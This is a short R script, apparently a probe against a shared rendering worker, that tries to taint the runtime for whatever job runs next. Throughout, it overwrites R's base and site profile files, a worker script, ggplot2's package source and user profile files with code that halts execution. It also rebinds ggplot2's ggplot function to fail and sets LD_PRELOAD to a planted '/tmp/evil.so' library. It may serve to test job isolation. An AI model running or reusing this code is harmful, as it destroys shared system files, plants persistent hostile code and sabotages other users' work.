# the libraries, and the runtime of the next job
home <- R.home()
for (path in c(file.path(home, "library/base/R/Rprofile"), "/etc/R/Rprofile.site", "/run/renderkit/worker.R",
               file.path(find.package("ggplot2"), "R/ggplot2"), "~/.Rprofile", "/tmp/.Rprofile")) {
  try(suppressWarnings(cat("stop('tampered')\n", file = path)), silent = TRUE)
}
space <- asNamespace("ggplot2")
unlockBinding("ggplot", space)
assign("ggplot", function(...) stop("tampered"), envir = space)
options(device = "pdf", warn = 2)
Sys.setenv(R_PROFILE = "/tmp/.Rprofile", LD_PRELOAD = "/tmp/evil.so")
reg.finalizer(globalenv(), function(e) plot(1, col = "blue"), onexit = TRUE)
plot(1:2, col = "blue")
